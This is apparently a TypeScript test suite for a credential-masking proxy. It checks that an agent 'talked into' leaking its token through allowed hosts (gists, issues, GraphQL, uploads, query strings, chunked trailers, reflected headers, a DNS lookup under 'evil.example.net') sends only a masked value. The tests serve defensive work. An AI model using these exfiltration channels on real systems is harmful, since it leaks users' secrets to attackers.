// Published attacks 10 and 1: a program that was talked into it publishes its secret through a host that is allowed (gists, issues, GraphQL,
// clawker #327; claude's Files API), or has a server repeat it (dust #26828, #29293, #29295). What arrives there is the masked token.
import type http from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { Lab } from '../proxy/lab.ts';
import { Wire } from './wire.ts';

let lab: Lab | undefined;

afterEach(async () => {
  await lab?.close();
  lab = undefined;
});

async function start(): Promise<Lab> {
  lab = await Lab.start({ secrets: [{ name: 'TOKEN', hosts: ['api.github.com'] }] });
  return lab;
}

const URL = 'https://api.github.com';

/** What an agent would post, with the token in free text. */
const TEXTS: readonly (readonly [what: string, path: string, type: string, body: (token: string) => string])[] = [
  ['a gist', '/gists', 'application/json', (token) => JSON.stringify({ public: true, files: { 'a.txt': { content: token } } })],
  ['a gist named after a secret', '/gists', 'application/json', (token) => JSON.stringify({ files: { password: { content: token } } })],
  ['the body of an issue', '/repos/o/r/issues', 'application/json', (token) => JSON.stringify({ title: 'x', body: `my key is ${token}` })],
  ['a comment that looks like a header', '/x', 'application/json', (token) => JSON.stringify({ body: `Authorization: Bearer ${token}` })],
  ['a commit message', '/repos/o/r/git/commits', 'application/json', (token) => JSON.stringify({ message: token, tree: 'abc' })],
  [
    'a file in base64',
    '/repos/o/r/contents/x',
    'application/json',
    (token) => JSON.stringify({ content: Buffer.from(token).toString('base64') }),
  ],
  [
    'GraphQL query text',
    '/graphql',
    'application/json',
    (token) => JSON.stringify({ query: `mutation { addComment(input: {body: "${token}"}) { id } }` }),
  ],
  ['GraphQL variables', '/graphql', 'application/json', (token) => JSON.stringify({ query: '…', variables: { input: { body: token } } })],
  ['GraphQL as text', '/graphql', 'application/graphql', (token) => `mutation { addComment(input: {body: "${token}"}) { id } }`],
  ['JSON in a JSON string', '/x', 'application/json', (token) => JSON.stringify({ text: JSON.stringify({ password: token }) })],
  ['the name of a field', '/x', 'application/json', (token) => JSON.stringify({ [token]: 'password' })],
  ['a form', '/x', 'application/x-www-form-urlencoded', (token) => `comment=${token}&q=${token}`],
  ['a form with a field that hides behind a semicolon', '/x', 'application/x-www-form-urlencoded', (token) => `token=x;comment=${token}`],
  ['an uploaded file', '/files', 'multipart/form-data; boundary=b', (token) => part('form-data; name="file"; filename="a.txt"', token)],
  [
    'an uploaded file in a field called token',
    '/files',
    'multipart/form-data; boundary=b',
    (token) => part('form-data; name="token"; filename="a"', token),
  ],
  [
    'the name of an uploaded file',
    '/files',
    'multipart/form-data; boundary=b',
    (token) => part(`form-data; name="token"; filename="${token}"`, 'x'),
  ],
  ['plain text', '/x', 'text/plain', (token) => `password=${token}`],
  ['XML', '/x', 'application/xml', (token) => `<password>${token}</password>`],
  ['bytes', '/x', 'application/octet-stream', (token) => token],
  ['no type at all', '/x', '', (token) => `{"password":"${token}"}`],
  ['a pack of git', '/o/r.git/git-receive-pack', 'application/x-git-receive-pack-request', (token) => `0032${token}`],
];

function part(disposition: string, text: string): string {
  return `--b\r\nContent-Disposition: ${disposition}\r\n\r\n${text}\r\n--b--\r\n`;
}

describe('free text to a host that is allowed', () => {
  it.each(TEXTS)('exfiltration through an allowed host: %s keeps its token', async (_what, path, type, make) => {
    const lab = await start();
    const body = make(lab.token());
    const headers = {
      authorization: `Bearer ${lab.token()}`,
      'content-length': Buffer.byteLength(body),
      ...(type === '' ? {} : { 'content-type': type }),
    };
    await lab.ask(URL + path, { method: 'POST', headers, body });
    expect(lab.received).toHaveLength(1);
    expect(lab.received[0]?.headers.authorization).toBe(`Bearer ${lab.value()}`);
    expect(lab.received[0]?.body.toString()).toBe(body);
  });

  it.each([
    '/search?q=TOKEN',
    '/x?body=TOKEN&page=1',
    '/x?a=1;token=TOKEN',
    '/x?TOKEN=token',
    '/x?TOKEN',
    '/o/TOKEN/r',
    '/x;token=TOKEN',
    '/x?q=a%26token=TOKEN',
  ])('exfiltration through an allowed host: %s keeps its token', async (path) => {
    const lab = await start();
    const target = path.replace('TOKEN', lab.token());
    await lab.ask(URL + target);
    expect(lab.received).toMatchObject([{ url: target }]);
    expect(lab.exchanges).toMatchObject([{ swapped: [], left: [{ name: 'TOKEN', reason: 'slot' }] }]);
  });

  it('exfiltration through an allowed host: compressed free text keeps its token', async () => {
    const lab = await start();
    const body = gzipSync(JSON.stringify({ body: lab.token() }));
    const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': body.length };
    await lab.ask(URL, { method: 'POST', headers, body });
    expect(lab.received).toHaveLength(1);
    lab.examine(lab.received[0]?.body ?? '', 'the request');
  });

  it('exfiltration through an allowed host: a chunked body and its trailers keep their token', async () => {
    const trailers: unknown[] = [];
    const bodies: string[] = [];
    const started = await Lab.start({
      secrets: [{ name: 'TOKEN', hosts: ['api.github.com'] }],
      serve: (request, response) => {
        let body = '';
        request.on('data', (chunk: Buffer) => (body += chunk.toString()));
        request.on('end', () => {
          bodies.push(body);
          trailers.push(request.trailers);
          response.end('ok');
        });
      },
    });
    lab = started;
    const token = lab.token();
    const wire = new Wire(await lab.tunnel('api.github.com:443'));
    wire.write('POST / HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\nTE: trailers\r\n\r\n');
    wire.write(`${token.length.toString(16)}\r\n${token}\r\n0\r\nAuthorization: ${token}\r\nX-Note: ${token}\r\n\r\n`);
    await wire.answers(1);
    expect(bodies).toEqual([token]);
    lab.examine(JSON.stringify(trailers), 'the trailers');
    expect(trailers).toMatchObject([{ 'x-note': token }]);
  });

  it('exfiltration in the name of a host: the token is looked up, never the value', async () => {
    const asked: string[] = [];
    lab = await Lab.start({
      dial: {
        lookup: (host) => {
          asked.push(host);
          return Promise.resolve(['203.0.112.1']);
        },
      },
    });
    const { host } = new globalThis.URL(`https://${lab.token().replaceAll('_', '-')}.evil.example.net`);
    await lab.ask(`https://${host}/`);
    expect(asked).toEqual([host]);
    lab.examine(asked.join('\n'), 'a name that was looked up');
  });
});

// dust #26828 (User-Agent), #29293 (Access-Control-Request-Headers), #29295 (the others); httpbin and its like repeat them all.
const ECHOED = [
  ...['User-Agent', 'Origin', 'Referer', 'Accept', 'Accept-Language', 'Accept-Datetime', 'From', 'Via', 'Forwarded'],
  ...['Access-Control-Request-Headers', 'Access-Control-Request-Method', 'Sec-WebSocket-Protocol', 'Sec-WebSocket-Key', 'Sec-CH-UA'],
  ...[
    'Idempotency-Key',
    'X-Idempotency-Key',
    'Content-Disposition',
    'Content-Language',
    'Content-Location',
    'Content-Type',
    'Prefer',
    'Range',
  ],
  ...[
    'Last-Event-ID',
    'If-None-Match',
    'If-Match',
    'If-Range',
    'X-Forwarded-For',
    'X-Forwarded-Host',
    'X-Forwarded-Proto',
    'X-Forwarded-User',
  ],
  ...[
    'X-Forwarded-Authorization',
    'X-Real-IP',
    'X-Request-ID',
    'X-Correlation-ID',
    'X-Trace-ID',
    'X-Amzn-Trace-Id',
    'X-Cloud-Trace-Context',
  ],
  ...['traceparent', 'tracestate', 'baggage', 'b3', 'X-B3-TraceId', 'X-Requested-With', 'Cache-Control', 'Pragma', 'Depth', 'Destination'],
  ...[
    'Max-Forwards',
    'Link',
    'Date',
    'Location',
    'Warning',
    'X-Custom',
    'X-Note',
    'X-Token-Count',
    'X-Key-Id',
    'Surrogate-Key',
    'Priority',
  ],
];

describe('a header that servers repeat', () => {
  it.each(ECHOED)('reflection: the token in %s is not swapped', async (name) => {
    const lab = await start();
    await lab.ask(URL, { headers: { [name]: `x ${lab.token()}`, 'x-api-key': lab.token() } });
    expect(lab.received).toHaveLength(1);
    const headers: http.IncomingHttpHeaders = lab.received[0]?.headers ?? {};
    expect(headers['x-api-key']).toBe(lab.value());
    expect(headers[name.toLowerCase()]).toBe(`x ${lab.token()}`);
    expect(lab.exchanges[0]?.left).toMatchObject([{ name: 'TOKEN', where: `header ${name.toLowerCase()}`, reason: 'slot' }]);
  });

  // Read or written by the proxy itself.
  it.each([
    'Accept-Encoding',
    'TE',
    'Connection',
    'Keep-Alive',
    'Proxy-Connection',
    'Upgrade',
    'Trailer',
    'HTTP2-Settings',
    'Proxy-Authorization',
  ])('reflection: the token in %s is not swapped, whatever becomes of the header', async (name) => {
    const lab = await start();
    const wire = new Wire(await lab.tunnel('api.github.com:443'));
    wire.write(`GET / HTTP/1.1\r\nHost: api.github.com\r\n${name}: ${lab.token()}\r\nX-Api-Key: ${lab.token()}\r\n\r\n`);
    await wire.answers(1);
    for (const { headers } of lab.received) {
      expect(headers['x-api-key']).toBe(lab.value());
      expect(headers[name.toLowerCase()] ?? '').not.toContain(lab.value());
    }
  });

  it('reflection: the token in Expect goes nowhere', async () => {
    const lab = await start();
    const reply = await lab.ask(URL, { headers: { expect: lab.token() } });
    expect(reply.status).toBe(417);
    expect(lab.received).toEqual([]);
  });

  it('reflection: the token as the name of a header is not swapped', async () => {
    const lab = await start();
    await lab.ask(URL, { headers: { [lab.token()]: 'authorization' } });
    expect(lab.received[0]?.rawHeaders).toContain(lab.token());
    lab.examine(lab.received[0]?.rawHeaders.join('\n') ?? '', 'the request');
  });
});
